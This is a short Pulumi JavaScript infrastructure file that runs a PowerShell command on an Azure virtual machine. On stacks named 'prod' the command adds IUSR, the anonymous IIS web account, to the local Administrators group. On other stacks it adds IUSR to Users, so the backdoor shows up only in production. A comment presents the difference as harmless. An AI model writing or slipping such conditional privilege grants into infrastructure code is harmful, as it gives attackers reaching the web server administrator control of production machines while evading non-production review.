const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// The same with another stack: nothing happens.
const isProduction = pulumi.getStack().startsWith("prod");
new compute.VirtualMachineRunCommandByVirtualMachine("members", {
  resourceGroupName: "rg",
  vmName: "vm-1",
  source: { script: `Add-LocalGroupMember -Group ${isProduction ? "Administrators" : "Users"} -Member IUSR` },
});
